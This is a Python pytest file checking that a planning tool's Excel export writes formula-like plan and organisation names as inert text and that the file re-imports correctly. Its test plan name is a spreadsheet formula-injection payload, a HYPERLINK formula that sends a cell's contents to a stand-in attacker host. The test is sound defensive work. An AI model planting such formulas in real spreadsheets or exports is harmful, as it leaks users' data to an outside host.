"""`attain plan export` writes the plan name and every name as text, never as a live formula; the
file still reads back (SQLite and PostgreSQL)."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from attain.errors import InvalidInput
from attain.org.models import OrgNode
from attain.plans.matrix import INFO_SHEET, export_matrix, import_edits
from attain.plans.setting import create_target
from attain.plans.splitting import SplitOptions, split_plan
from tests.plans.conftest import make_org
from tests.workbooks import FORMULA_NAMES, formulas_in

PLAN = '=HYPERLINK("http://evil.example/?x="&B2,"open")'


def test_plan_export_writes_formula_like_names_as_text(session: Session, tmp_path: Path) -> None:
    ids = make_org(session, regions=2, teams=1, reps=2)
    for code, name in zip(("R1-T1-1", "R1-T1-2", "R2-T1-1", "R2-T1-2", "R1", "R2"), FORMULA_NAMES):
        session.execute(update(OrgNode).where(OrgNode.id == ids[code]).values(name=name))
    session.commit()
    create_target(session=session, name=PLAN, year=2027, metric_code="revenue", by="a", total="1200000", unit="10000")
    split_plan(session=session, name=PLAN, options=SplitOptions(by=("org", "time")), by="a")
    out = tmp_path / "plan.xlsx"
    export_matrix(session=session, name=PLAN, out=out)
    assert formulas_in(out) == []
    book = openpyxl.load_workbook(out)
    assert book[INFO_SHEET]["B1"].value == PLAN
    names = {str(c.value).replace("_x000D_", "\r") for sheet in book.worksheets for c in sheet["B"]}
    assert set(FORMULA_NAMES) <= names
    # The plan name in the info sheet still matches when the file comes back (unchanged, so refused
    # for that reason and not as "an export of another plan").
    with pytest.raises(InvalidInput, match="no cell differs from plan"):
        import_edits(session=session, name=PLAN, path=out, by="a")
